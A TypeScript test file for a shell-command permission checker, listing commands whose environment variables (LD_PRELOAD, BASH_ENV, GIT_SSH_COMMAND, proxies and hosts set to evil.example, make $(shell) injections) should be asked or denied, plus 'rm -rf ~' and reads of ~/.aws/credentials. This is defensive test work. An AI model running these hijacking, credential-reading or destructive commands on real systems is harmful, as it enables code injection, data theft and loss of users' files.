import { describe, expect, it } from "vitest";
import { place } from "../ledger/place.ts";

/**
 * What variables do to the programs that get them. `allow`: as harmless as without; `none`: as much a question of the host as
 * without; `ask`: nobody knows what the program does with it, or it controls the program.
 */
const JUDGED: readonly (readonly ["allow" | "none" | "ask" | "deny", string])[] = [
  // A name that nobody knows, before a known program.
  ["ask", "GIO_EXTRA_MODULES=./d gio list ."],
  ["ask", "RUFF_OUTPUT_FILE=f ruff check ."],
  ["allow", "RUFF_NO_CACHE=1 ruff check ."],
  ["ask", "FLY_API_BASE_URL=https://x.example flyctl apps list"],
  ["ask", "FOO=1 gh pr list"],
  ["ask", "FOO=1 tar tf a.tar"],
  ["ask", "FOO=$X kubectl get pods"],
  ["ask", "HEROKU_HOST=x.example heroku apps"],
  ["ask", "GREP=./evil zgrep x a.gz"],
  ["ask", "BC_ENV_ARGS=./evil bc"],
  ["ask", "WORDLIST=./evil look x"],
  ["ask", "XML_CATALOG_FILES=./evil xmllint a.xml"],
  ["ask", "MAGIC=./evil file a.txt"],
  ["ask", "LESSGLOBALTAGS=./evil less a.txt"],
  ["ask", "QLOGDIR=. curl --version"],
  ["ask", "FONTCONFIG_FILE=evil dot a.dot"],
  ["ask", "LIBMOUNT_FSTAB=./evil findmnt"],
  // Handed on, exported, or in the environment by other ways.
  ["ask", "env GIO_EXTRA_MODULES=./d gio list ."],
  ["ask", "env -i A=1 GIO_EXTRA_MODULES=./d nice -n 3 gio list ."],
  ["ask", "export GIO_EXTRA_MODULES=./d; gio list ."],
  ["ask", "export GIO_EXTRA_MODULES; GIO_EXTRA_MODULES=./d; gio list ."],
  ["ask", "GIO_EXTRA_MODULES=./d; export GIO_EXTRA_MODULES; gio list ."],
  ["ask", "declare -x RUFF_OUTPUT_FILE=f; ruff check ."],
  ["ask", "typeset -x GIO_EXTRA_MODULES=./d; gio list ."],
  ["ask", "set -a; RUFF_OUTPUT_FILE=f; ruff check ."],
  ["ask", "read -r GIO_EXTRA_MODULES <<< ./d; export GIO_EXTRA_MODULES; gio list ."],
  ["ask", "export GIO_EXTRA_MODULES; for GIO_EXTRA_MODULES in ./d; do gio list .; done"],
  ["ask", "export GIO_EXTRA_MODULES; printf -v GIO_EXTRA_MODULES %s ./d; gio list ."],
  ["ask", "f() { gio list .; }; GIO_EXTRA_MODULES=./d f"],
  ["ask", "GIO_EXTRA_MODULES=./d bash -c 'gio list .'"],
  ["ask", "export GIO_EXTRA_MODULES; bash -c 'GIO_EXTRA_MODULES=./d; gio list .'"],
  ["ask", "GIO_EXTRA_MODULES=./d eval 'gio list .'"],
  ["ask", "GIO_EXTRA_MODULES=./d command gio list ."],
  ["ask", "RUFF_OUTPUT_FILE=f timeout 5 ruff check ."],
  ["ask", "if true; then export GIO_EXTRA_MODULES=./d; fi; gio list ."],
  ["ask", "echo . | GIO_EXTRA_MODULES=./d xargs gio list"],
  ["ask", "GIO_EXTRA_MODULES=./d find . -maxdepth 0 -exec gio list {} \\;"],
  ["ask", "cross-env GIO_EXTRA_MODULES=./d gio list ."],
  ["ask", "strace -E GIO_EXTRA_MODULES=./d gio list ."],
  // The shell's own, or somebody else's.
  ["allow", "RUFF_OUTPUT_FILE=f; ruff check ."],
  ["allow", "RUFF_OUTPUT_FILE=f ls; ruff check ."],
  ["allow", "env RUFF_OUTPUT_FILE=f ls; ruff check ."],
  ["allow", "(export RUFF_OUTPUT_FILE=f); ruff check ."],
  ["allow", "bash -c 'export FOO=1'; gio list ."],
  ["allow", "x=1; echo $x"],
  ["allow", "export FOO=1; echo $FOO; ls; git status"],
  ["allow", "FOO=bar ls -la"],
  ["allow", "env FOO=bar grep -rn TODO src"],
  ["allow", "FOO=1 git status"],
  ["allow", "set -a; FOO=1; ls"],
  // Grammars of values.
  ["allow", "GIT_TRACE=1 git status"],
  ["ask", "GIT_TRACE=/tmp/x git status"],
  ["ask", "GIT_TRACE=7 git status"],
  ["ask", "GIT_TRACE_PERFORMANCE=$HOME/x git status"],
  ["allow", "GIT_PAGER=cat git log"],
  ["ask", "GIT_PAGER=./evil git log"],
  ["allow", "TZ=UTC date"],
  ["allow", "TZ=Europe/Berlin date"],
  ["allow", "TZ=EST5EDT,M3.2.0/2,M11.1.0 date"],
  ["ask", "TZ=:/home/u/x date"],
  ["ask", "TZ=/etc/passwd date"],
  ["ask", "TZ=../../../etc/passwd date"],
  ["ask", "TZ=./x date"],
  ["allow", "LC_ALL=C sort a.txt"],
  ["allow", "LANG=en_US.UTF-8 LC_TIME=de_DE@euro ls"],
  ["ask", "LC_ALL=/tmp/evil sort a.txt"],
  ["ask", "LANGUAGE=../../tmp/evil ls --version"],
  ["allow", "TERM=xterm-256color ls"],
  ["ask", "TERM=./evil tput cols"],
  ["ask", "PYTHONWARNINGS=all:0:antigravity.x:0:0 python3 -c 'print(1)'"],
  ["allow", "PYTHONWARNINGS=ignore::DeprecationWarning python3 -c 'print(1)'"],
  ["ask", "DEBIAN_FRONTEND='x; system q(id)' apt list"],
  ["allow", "DEBIAN_FRONTEND=noninteractive apt list"],
  ["ask", "AWS_REGION='x.evil.example/#' aws sts get-caller-identity"],
  ["ask", "LC_ALL=$X sort a.txt"],
  // What entries say of their own.
  ["ask", "PGHOST=evil.example psql -c 'select 1'"],
  ["ask", "PGOPTIONS='-c search_path=x' psql -c 'select 1'"],
  ["ask", "PGDATABASE='host=evil.example' psql -c 'select 1'"],
  ["ask", "AWKPATH=. gawk 1 a.txt"],
  ["ask", "WHINY_USERS=1 gawk 1 a.txt"],
  ["allow", "FOO=1 awk '{print $1}' a.txt"],
  ["ask", "MAILPATH='x?$(id)' bash -c ls"],
  // What tells options and operands apart.
  ["ask", "POSIXLY_CORRECT=1 grep x a.txt -e b.txt"],
  ["ask", "env POSIXLY_CORRECT=1 grep x a.txt -e b.txt"],
  ["ask", "_POSIX2_VERSION=199209 sort +1 a.txt"],
  ["ask", "GIT_ICASE_PATHSPECS=1 git grep x -- A.TXT"],
  ["ask", "SKIP=all git commit -m x"],
  // Everyday prefixes.
  ["allow", "CI=1 NODE_ENV=test FORCE_COLOR=0 NO_COLOR=1 git status"],
  ["allow", "PYTHONUNBUFFERED=1 RUST_LOG=debug,hyper=info TERM=dumb COLUMNS=200 ls"],
  ["allow", "GIT_TERMINAL_PROMPT=0 git log --oneline -3"],
  ["none", "PORT=3000 npm start"],
  ["none", "DATABASE_URL=postgres://u:p@localhost/db npm test"],
  ["none", "MY_FLAG=1 ./x"],
  ["none", "env MY_FLAG=1 ./x --y"],
  ["none", "DJANGO_SETTINGS_MODULE=a.test pytest -q"],
  ["none", "PYTHONPATH=. pytest"],
  ["none", "PYTHONPATH=src:lib:$PYTHONPATH pytest"],
  ["none", "export PYTHONPATH=$PWD/src; python3 src/x.py"],
  ["none", "NODE_PATH=./lib node src/x.js"],
  ["none", "CC=clang make"],
  ["none", "FOO=1 cargo test"],
  // Never the project's: code from elsewhere, other programs, loaders.
  ["ask", "PYTHONPATH=/tmp/evil pytest"],
  ["ask", "PYTHONPATH=../evil pytest"],
  ["ask", "PYTHONPATH=$X pytest"],
  ["ask", "cd /tmp; PYTHONPATH=. pytest"],
  ["ask", "PYTHONPATH=. python3 -c 'import json'"],
  ["ask", "LD_PRELOAD=./x.so pytest"],
  ["ask", "BASH_ENV=./x npm test"],
  ["ask", "PAGER=./evil npm test"],
  ["ask", "npm_config_script_shell=./evil npm test"],
  ["ask", "PREFIX=./evil npm test"],
  ["ask", "LD_PRELOAD=./x.so ./x"],
  ["ask", "GIT_SSH_COMMAND=./evil ./x"],
  ["ask", "RUSTC_WRAPPER=./evil cargo test"],
  ["deny", "FOO=1 rm -rf ~"],
];

describe("variables that reach programs", () => {
  const here = place({ "src/x.py": "", "src/x.js": "", x: "" });

  it.each(JUDGED)("%s: %s", (expected, command) => {
    const { decision, reason } = here.verdict(command);
    expect(decision, reason).toBe(expected);
  });
});

describe("a rule for a program answers for what only reaches the code that the program runs", () => {
  const here = place({ "src/x.py": "" });

  it.each([
    ["allow", "pytest -q"],
    ["allow", "PYTHONPATH=. pytest -q"],
    ["allow", "DJANGO_SETTINGS_MODULE=a.b ANY_FLAG=1 pytest"],
    ["allow", "PYTEST_ADDOPTS='-q -x' pytest"],
    ["allow", "PYTEST_ADDOPTS='-p no:cacheprovider' pytest"],
    ["allow", "env PYTHONPATH=src pytest"],
    ["allow", "export PYTHONPATH=src && pytest"],
    ["ask", "PYTHONPATH=/tmp pytest"],
    ["ask", "LD_PRELOAD=./x.so pytest"],
    ["ask", "BASH_ENV=./x pytest"],
    ["ask", "PAGER=./x pytest"],
    ["ask", "PATH=./x:$PATH pytest"],
    ["ask", "PYTHONSTARTUP=./x pytest"],
    ["ask", "BROWSER=./x pytest"],
    // No code of the project: nothing that the rule would answer for.
    ["ask", "GIO_EXTRA_MODULES=./d gio list ."],
    ["allow", "gio list ."],
    ["allow", "make test ARGS=-v"],
    ["ask", "make test ARGS='; touch x'"],
    ["ask", "make test SHELL=./x"],
  ] as const)("%s: %s", (expected, command) => {
    here.user({ permissions: { allow: ["Bash(pytest:*)", "Bash(gio:*)", "Bash(make:*)"] } });
    const { decision, reason } = here.verdict(command);
    expect(decision, reason).toBe(expected);
  });
});

/** Programs that hand variables on, in words of their own: what the started program gets counts as if it stood in front. */
const HANDED_ON: readonly (readonly [harmful: string, twin: string])[] = [
  ["env a-b=1 rm -rf ~", "env A_B=1 ls"],
  ["env =x rm -rf ~", "env -- ls"],
  ["env npm_config_script-shell=./x npm ls", "env npm_config_loglevel=error npm ls"],
  ["Npm_Config_Script_Shell=./x npm ls", "NPM_CONFIG_LOGLEVEL=error npm ls"],
  ["Npm_Config_Script_Shell=./x npm test", "npm_config_progress=false npm test"],
  ["pnpm_config_registry=http://evil.example pnpm test", "CI=1 pnpm test"],
  ["yarn_registry=http://evil.example yarn test", "CI=1 yarn test"],
  ["YARN_Registry=http://evil.example yarn test", "FORCE_COLOR=1 yarn test"],
  ["env -S 'LD_PRELOAD=./x ls'", "env -S 'CI=1 ls'"],
  ["env --split-string='FOO=1 gio list .'", "env --split-string='LC_ALL=C gio list .'"],
  ["env -C src LD_PRELOAD=./x ls", "env -C src CI=1 ls"],
  ["env 'BASH_FUNC_ls%%=() { id; }' bash -c ls", "env CI=1 bash -c ls"],
  ["busybox env LD_PRELOAD=./x ls", "busybox env CI=1 ls"],
  ["busybox env GIO_EXTRA_MODULES=./d gio list .", "busybox env CI=1 gio list ."],
  ["cross-env x-LD_PRELOAD=./x ls", "cross-env CI=1 ls"],
  ["cross-env RUFF_OUTPUT_FILE=f ruff check .", "cross-env RUFF_NO_CACHE=1 ruff check ."],
  ["cross-env-shell LD_PRELOAD=./x ls", "cross-env-shell CI=1 ls"],
  ["xargs env < x", "xargs env CI=1 ls < x"],
  ["xargs -a x env gio list .", "xargs -a x echo"],
  ["xargs --process-slot-var=GIO_EXTRA_MODULES gio list < x", "xargs --process-slot-var=SLOT echo < x"],
  ["xargs --process-slot-var BASH_ENV bash -c ls < x", "xargs --process-slot-var N echo < x"],
  ["env $(cat x) gio list .", "env CI=1 gio list ."],
  ["export $(cat f.env | xargs); gio list .", "export CI=1; gio list ."],
  ["trap 'export GIO_EXTRA_MODULES=./d' DEBUG; gio list .", "trap 'export CI=1' EXIT; gio list ."],
  ["export GIO_EXTRA_MODULES; trap 'GIO_EXTRA_MODULES=./d' DEBUG; gio list .", "trap 'GIO_EXTRA_MODULES=./d' DEBUG; gio list ."],
  ["trap 'export RUFF_OUTPUT_FILE=f' ERR; false; ruff check .", "trap 'export RUFF_OUTPUT_FILE=f' EXIT; ruff check ."],
  ["trap 'export RUFF_OUTPUT_FILE=f' USR1; kill -USR1 $$; ruff check .", "trap 'X=1' ERR; ruff check ."],
  // Measured: bash in its POSIX mode hands on what stood in front of a special builtin; zsh as sh what a function was given.
  ["bash --posix -c 'GIO_EXTRA_MODULES=./d :; gio list .'", "bash --posix -c 'RUFF_OUTPUT_FILE=f ls; ruff check .'"],
  ["sh -c 'GIO_EXTRA_MODULES=./d export X; gio list .'", "sh -c 'CI=1 export X; gio list .'"],
  ["sh -c 'RUFF_OUTPUT_FILE=f eval :; ruff check .'", "sh -c 'RUFF_OUTPUT_FILE=f true; ruff check .'"],
  ["sh -c 'f() { :; }; RUFF_OUTPUT_FILE=f f; ruff check .'", "sh -c 'f() { :; }; CI=1 f; ruff check .'"],
  ["while read l; do export GIO_EXTRA_MODULES=$l; done < x; gio list .", "while read l; do GIO_EXTRA_MODULES=$l; done < x; gio list ."],
  ["for i in 1 2; do gio list .; export GIO_EXTRA_MODULES=./d; done", "for i in 1 2; do gio list .; export CI=1; done"],
  ["case x in a) export GIO_EXTRA_MODULES=./d;; esac; gio list .", "case x in a) export CI=1;; esac; gio list ."],
  ["f() { local -x GIO_EXTRA_MODULES=./d; gio list .; }; f", "f() { local GIO_EXTRA_MODULES=./d; gio list .; }; f"],
  ["declare -n r=GIO_EXTRA_MODULES; export r=./d; gio list .", "declare r=CI; gio list ."],
  ['v=GIO_EXTRA_MODULES=./d; export "$v"; gio list .', 'v=CI=1; export "$v"; gio list .'],
  ["bash -ac 'GIO_EXTRA_MODULES=./d; gio list .'", "bash -c 'GIO_EXTRA_MODULES=./d; gio list .'"],
  ["bash -k -c 'gio list . GIO_EXTRA_MODULES=./d'", "bash -c 'gio list .'"],
  ["set -k; gio list . GIO_EXTRA_MODULES=./d", "gio list ."],
  // Measured with GNU make 4.3: all of these run what they name.
  ["make 'A!=touch y'", "make A=touch"],
  ["make '$(shell touch y)=x'", "make X=y"],
  ["make 'A = $(shell touch y)'", "make 'A = 1'"],
  ["make 'A:::=$(shell touch y)'", "make A:=1"],
  ["make .SHELLFLAGS=-x", "make V=1"],
  ["make SHELL=./x", "make FOO.bar=1"],
  ["make -n MAKEFILES=./x", "make -n V=1"],
  ["MAKEFLAGS='--eval=$(shell touch y)' make", "MAKEFLAGS=-j4 make"],
  ["AUTOCONF=/tmp/x make", "CFLAGS='-O2 -Wall' make"],
  ["M4=/tmp/x make", "CC=clang make"],
  ["CFLAGS='-O2 -fplugin=./x.so' make", "CFLAGS='-O2 -g -std=c11 -DNDEBUG=1' make"],
  ["CFLAGS='-Wl,--plugin=./x' make", "CXXFLAGS='-Wall -Wextra -Werror=format' make"],
  ["CFLAGS='-wrapper ./x' make", "CFLAGS=-march=native make"],
  ["CFLAGS='-O2 @x' make", "CPPFLAGS=-DX make"],
  ["JAVA_HOME=./evil gradle test", "JAVA_HOME=/usr/lib/jvm/java-17-openjdk-amd64 gradle test"],
  ["JAVA_HOME=/usr/lib/jvm/../../../tmp/x mvn test", "JAVA_HOME=/usr/lib/jvm/default-java mvn test"],
  ["GIT_SSH_COMMAND='ssh -o ProxyCommand=./x' git ls-remote", "GIT_SSH_COMMAND='ssh -o BatchMode=yes' git ls-remote"],
  ["SHELL=./x make test", "SHELL=/bin/bash make test"],
  ["BROWSER=./x npm start", "BROWSER=none npm start"],
  ["CHROME_BIN=/tmp/x npm test", "CHROME_BIN=/usr/bin/chromium npm test"],
  ["http_proxy=http://evil.example npm test", "http_proxy= npm test"],
  ["NO_PROXY='*' npm test", "NO_PROXY=localhost,127.0.0.1 npm test"],
  ["ASAN_OPTIONS=log_path=/tmp/x ./x", "ASAN_OPTIONS=detect_leaks=0:halt_on_error=1 ./x"],
  ["UBSAN_OPTIONS=external_symbolizer_path=/tmp/x ./x", "UBSAN_OPTIONS=print_stacktrace=1 ./x"],
  ["GH_TOKEN=$X gh pr list", "GH_TOKEN=ghp_x gh pr list"],
  ["GH_REPO=evil.example/a/b gh pr list", "GH_REPO=a/b gh pr list"],
  ["GH_HOST=evil.example gh pr list", "GH_PAGER=cat gh pr list"],
  ["DISPLAY=evil.example:0 npm test", "DISPLAY=:99 npm test"],
  ["DBUS_SESSION_BUS_ADDRESS=unix:path=/tmp/x npm test", "DBUS_SESSION_BUS_ADDRESS=/dev/null npm test"],
  ["COMPOSE_FILE=./x docker compose ps", "COMPOSE_PROJECT_NAME=x docker compose ps"],
  ["DOCKER_HOST=tcp://evil.example docker ps", "DOCKER_CLI_HINTS=false docker ps"],
  ["TF_CLI_CONFIG_FILE=./x terraform validate", "TF_VAR_region=eu terraform validate"],
  ["TF_LOG_PATH=./y terraform validate", "TF_LOG=DEBUG terraform validate"],
  ["UV_PYTHON=./x uv pip list", "UV_NO_PROGRESS=1 uv pip list"],
  ["VIRTUAL_ENV=/tmp/x pytest", "VIRTUAL_ENV=.venv pytest"],
  ["GOCACHE=/tmp/x go test ./...", "GOCACHE=$PWD/.cache/go go test ./..."],
  ["CARGO_TARGET_DIR=/tmp/x cargo test", "CARGO_TARGET_DIR=target/x cargo test"],
  ["NODE_COMPILE_CACHE=/tmp/x npm test", "NODE_NO_WARNINGS=1 npm test"],
  ["BUNDLE_GEMFILE=/tmp/x bundle exec rspec", "BUNDLE_GEMFILE=Gemfile.next bundle exec rspec"],
  ["FOO=1 RIPGREP_CONFIG_PATH=./x vitest run", "FOO=1 vitest run"],
  ["PGHOST=evil.example pg_dump db", "PGPASSWORD=x pg_dump db"],
  ["PGSERVICEFILE=./x psql -c 'select 1'", "DATABASE_URL=postgres://x psql -c 'select 1'"],
  ["SHELLCHECK_OPTS='-x ./y' shellcheck x", "SHELLCHECK_OPTS='-e SC2086 -s bash' shellcheck x"],
  ["BAT_OPTS=--pager=./x bat a.txt", "BAT_STYLE=plain bat a.txt"],
  ["systemd-run --user -E GIO_EXTRA_MODULES=./d gio list .", "nice gio list ."],
  ["bwrap --ro-bind / / --setenv GIO_EXTRA_MODULES ./d gio list .", "timeout 5 gio list ."],
  ["strace -E LD_PRELOAD=./x ls", "strace -E CI=1 ls"],
  ["script -qc 'GIO_EXTRA_MODULES=./d gio list .' /dev/null", "setsid gio list ."],
  ["stdbuf -oL env GIO_EXTRA_MODULES=./d gio list .", "stdbuf -oL env CI=1 gio list ."],
  ["unshare -r env LD_PRELOAD=./x ls", "setsid env CI=1 ls"],
  ["docker run -e LD_PRELOAD=/x alpine ls", "docker ps"],
  ["docker exec --env-file ~/.aws/credentials c env", "docker logs c"],
  ["podman --env-file ~/.netrc ps", "podman ps"],
  ["kubectl set env deploy/x LD_PRELOAD=./x", "kubectl get deploy x"],
  ["systemctl --user import-environment PATH", "systemctl --user status x"],
  ["systemctl set-environment LD_PRELOAD=./x", "systemctl status x"],
  ["tmux set-environment -g LD_PRELOAD ./x", "tmux ls"],
  ["launchctl setenv PATH ./x", "launchctl list"],
  ["go env -w CC=./x", "go env GOOS"],
  ["npm config set script-shell ./x", "npm config get registry"],
  ['awk \'BEGIN{ENVIRON["LD_PRELOAD"]="./x"; system("ls")}\'', "awk 'BEGIN{print ENVIRON[\"CI\"]}'"],
  ["git -c alias.x='!LD_PRELOAD=./x ls' x", "git status"],
  ["dotenv -f x get TOKEN", "dotenv --help"],
  ["dotenvx run --env LD_PRELOAD=./x -- ls", "dotenvx run -- npm test"],
  ["ssh -o SetEnv=LD_PRELOAD=./x host ls", "ssh -V"],
  ["ssh -o 'SendEnv=*' host", "ssh -V"],
  ["parallel --env BASH_ENV bash -c ls ::: a", "parallel --version"],
];

describe("variables that a program hands on", () => {
  const here = place({ "src/x.py": "", x: "", "f.env": "A=1", Makefile: "all:\n" });

  it.each(HANDED_ON)("%s is asked, %s is not", (harmful, twin) => {
    const judged = here.verdict(harmful);
    expect(["ask", "deny"], `${harmful}: ${judged.reason}`).toContain(judged.decision);
    const { decision, reason } = here.verdict(twin);
    expect(["allow", "none"], `${twin}: ${reason}`).toContain(decision);
  });
});

describe("a file of variables is code of the project for what it is handed to", () => {
  const here = place({ "src/x.py": "", x: "A=1" });

  it.each([
    ["ask", "dotenv -e x -- ls"],
    ["ask", "dotenv -f x run ls"],
    ["ask", "dotenvx run -- ls"],
    ["ask", "env-cmd -f x ls"],
    ["ask", "envdir src ls"],
    ["none", "direnv exec . ls"],
    ["none", "dotenv -e .env.test -- npm test"],
    ["none", "dotenvx run -- npm test"],
    ["none", "env-cmd -f x npm test"],
    ["none", "envdir src npm test"],
    ["deny", "dotenv run rm -rf ~"],
    ["deny", "env-cmd -f x rm -rf ~"],
    ["deny", "envdir src rm -rf ~"],
  ] as const)("%s: %s", (expected, command) => {
    const { decision, reason } = here.verdict(command);
    expect(decision, reason).toBe(expected);
  });
});
